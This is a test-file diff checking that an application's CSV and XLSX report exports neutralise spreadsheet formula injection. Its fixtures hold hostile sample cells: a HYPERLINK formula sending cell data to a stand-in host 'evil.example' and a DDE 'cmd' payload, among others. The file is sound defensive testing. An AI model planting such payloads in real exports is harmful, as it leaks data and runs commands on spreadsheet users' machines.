@@ -1,0 +1,133 @@
+"""Exports are inert (issue 15, item 6): a cell that a spreadsheet would run as a formula
+(``= + - @``, tab, carriage return) is written as text — prefixed with ``'`` — by every
+CSV and XLSX writer; plain and real numbers stay numbers."""
+
+from __future__ import annotations
+
+import csv
+import io
+from types import SimpleNamespace
+
+import pytest
+
+from deskapp.services import export
+from deskapp.services.listing import ListColumn, ListQuery, ListRow
+
+ATTACK = '=HYPERLINK("http://evil.example/?"&F5,"查看详情")'
+NASTY = [ATTACK, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1+1"]
+
+
+@pytest.mark.parametrize("value", NASTY)
+def test_formula_text_becomes_text(value):
+    assert export.inert(value) == "'" + value
+
+
+@pytest.mark.parametrize("value", ["-12.50", "-¥1,234.56", "+3", "-5%", "张三", "", "1-2-301",
+                                   "'=already quoted"])
+def test_plain_values_are_left_alone(value):
+    assert export.inert(value) == value
+
+
+def test_numbers_are_never_touched():
+    assert export.inert(-5) == -5 and export.inert(None) is None
+
+
+class Evil:
+    columns = [ListColumn("name", "reports.xlsx.item", 20),
+               ListColumn("amount", "reports.xlsx.yuan", 12, "right")]
+    filters: list = []
+
+    def count(self, session, query) -> int:
+        return len(NASTY)
+
+    def fetch(self, session, query, offset, limit, *, reverse=False):
+        return [ListRow(i, (v, "-12.50")) for i, v in enumerate(NASTY)][offset:offset + limit]
+
+
+def _sheet_values(data: bytes) -> list[object]:
+    from openpyxl import load_workbook
+
+    wb = load_workbook(io.BytesIO(data))
+    return [c for ws in wb.worksheets for row in ws.iter_rows(values_only=True) for c in row]
+
+
+def _assert_inert_xlsx(data: bytes) -> None:
+    from openpyxl import load_workbook
+
+    wb = load_workbook(io.BytesIO(data))
+    for ws in wb.worksheets:
+        for row in ws.iter_rows():
+            for cell in row:
+                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
+                if isinstance(cell.value, str):
+                    assert not cell.value.startswith(("=", "+", "@", "\t", "\r")), cell.value
+
+
+def test_list_export_csv_and_xlsx(db):
+    with db.read() as s:
+        data, _ = export.export_bytes(s, source=Evil(), query=ListQuery(), fmt="csv")
+        xlsx, _ = export.export_bytes(s, source=Evil(), query=ListQuery(), fmt="xlsx")
+    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
+    names = [r[0] for r in rows[1:]]
+    assert names == ["'" + v for v in NASTY]
+    assert all(r[1] == "-12.50" for r in rows[1:])
+    _assert_inert_xlsx(xlsx)
+    values = _sheet_values(xlsx)
+    assert "'" + ATTACK in values
+    assert -12.5 in values  # a real negative number stays a number
+
+
+def test_cashier_report_csv_and_xlsx(tmp_path):
+    from deskapp.services.cashier_report import Report, render_csv, write_xlsx
+
+    report = Report(title="收费日报", summary=[("付款人", ATTACK)], columns=["收据", "付款人", "金额"],
+                    rows=[["R1", ATTACK, "-12.50"], ["R2", "@x", "3.00"]])
+    rows = list(csv.reader(io.StringIO(render_csv(report))))
+    assert rows[1] == ["R1", "'" + ATTACK, "-12.50"] and rows[2][1] == "'@x"
+    path = write_xlsx(report, tmp_path / "r.xlsx")
+    data = path.read_bytes()
+    _assert_inert_xlsx(data)
+    assert -12.5 in _sheet_values(data)
+
+
+def test_complaints_report_csv_and_xlsx(monkeypatch):
+    from deskapp.services import complaints_report
+
+    monkeypatch.setattr(complaints_report, "rows", lambda f: [(ATTACK, "3", "-1")])
+    figures = SimpleNamespace(year=2026, month=11)
+    monkeypatch.setattr(complaints_report, "_month", lambda f: "2026-11")
+    monkeypatch.setattr(complaints_report, "_prev_month", lambda f: "2026-10")
+    rows = list(csv.reader(io.StringIO(complaints_report.render(figures, "csv"))))
+    assert rows[1] == ["'" + ATTACK, "3", "-1"]
+    data = complaints_report.render(figures, "xlsx")
+    _assert_inert_xlsx(data)
+    assert 3 in _sheet_values(data)
+
+
+def test_survey_report_xlsx(monkeypatch):
+    from deskapp.services import survey_report
+
+    monkeypatch.setattr(survey_report, "rate_lines", lambda progress: [(ATTACK, "-1")])
+    report = SimpleNamespace(
+        campaign=SimpleNamespace(title="=1+1"), progress=None,
+        stats=SimpleNamespace(overall=SimpleNamespace(satisfaction_rate=None, mean=None,
+                                                      n=0, counts=[0] * 5),
+                              sections=[], items=[], buildings=[]),
+        opinions={}, followups=None)
+    monkeypatch.setattr(survey_report, "OpinionQuestion", [])
+    monkeypatch.setattr(survey_report, "pct", lambda v: "-")
+    monkeypatch.setattr(survey_report, "mean", lambda v: "-")
+    data = survey_report.to_xlsx(report)
+    _assert_inert_xlsx(data)
+    assert "'" + ATTACK in _sheet_values(data)
+
+
+def test_monthly_report_xlsx(db, supervisor, monkeypatch):
+    from deskapp.services import reports, reports_render
+
+    with db.read() as s:
+        report = reports.monthly_report(s, by=supervisor, year=2026, month=11)
+    monkeypatch.setattr(reports_render, "header_lines", lambda r: [ATTACK, "+cmd"])
+    data = reports_render.render_xlsx(report)
+    _assert_inert_xlsx(data)
+    assert "'" + ATTACK in _sheet_values(data)
